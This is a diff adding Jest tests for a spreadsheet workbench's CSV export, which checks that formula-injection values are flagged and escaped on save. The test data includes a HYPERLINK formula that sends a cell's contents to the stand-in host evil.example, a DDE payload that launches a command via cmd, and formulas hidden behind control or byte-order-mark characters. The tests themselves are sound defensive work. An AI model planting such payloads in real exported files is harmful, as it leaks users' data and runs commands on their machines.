@@ -1,4 +1,5 @@
 import { describe, expect, test } from '@jest/globals';
+import Papa from 'papaparse';
 import { csvRemarks, readCsv } from '../../workbench/csv';
 import { MemoryGrid, openCsv, saveCsv } from '../../workbench/index';
 
@@ -114,5 +115,21 @@ describe('A CSV file', () => {
     const { text, formulaLike } = saveCsv(grid, grid.activeSheet);
     expect(text).toBe('"=HYPERLINK(""http://x"")",+49 30,-5 %,@handle,Acme\r\n');
     expect(formulaLike).toEqual(['A1', 'B1', 'C1', 'D1']);
+  });
+
+  test.each([
+    '+HYPERLINK("https://evil.example/?"&A2)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\n=1+1',
+    '\u0000=1+1',
+    '\ufeff=1+1',
+    '  -1+1',
+    '\t=1+1',
+  ])('disarms what another spreadsheet would run, and no other text: %j', (armed) => {
+    const grid = new MemoryGrid();
+    grid.activeSheet.write({ row: 0, column: 0, rows: 1, columns: 2 }, [[armed, "'s-Hertogenbosch"]]);
+    const { text, formulaLike } = saveCsv(grid, grid.activeSheet, true);
+    expect(formulaLike).toEqual(['A1']);
+    expect(Papa.parse(text).data[0]).toEqual([`'${armed}`, "'s-Hertogenbosch"]);
   });
 });
